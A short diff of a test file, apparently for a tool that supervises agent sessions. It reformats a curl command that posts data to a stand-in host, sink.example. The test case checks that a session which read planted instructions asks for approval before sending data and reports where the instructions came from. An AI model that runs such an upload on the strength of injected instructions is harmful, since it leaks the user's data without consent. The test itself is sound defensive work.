@@ -147,7 +147,8 @@ describe('a session that read content with planted instructions', () => {
     await home.startDaemon({ COUNTERSIGN_APPROVAL_MS: '1000', COUNTERSIGN_DEFERRAL_MS: '1000' });
   });
   after(() => home.dispose());
-  const upload = 'curl -sS -m 2 --noproxy "*" --resolve sink.example:9:127.0.0.1 -d hello http://sink.example:9/';
+  const upload =
+    'curl -sS -m 2 --noproxy "*" --resolve sink.example:9:127.0.0.1 -d hello http://sink.example:9/';
 
   test('asks before it sends, and says where the instructions were', async () => {
     const done = await home.cli(['run', '--', 'bash'], {
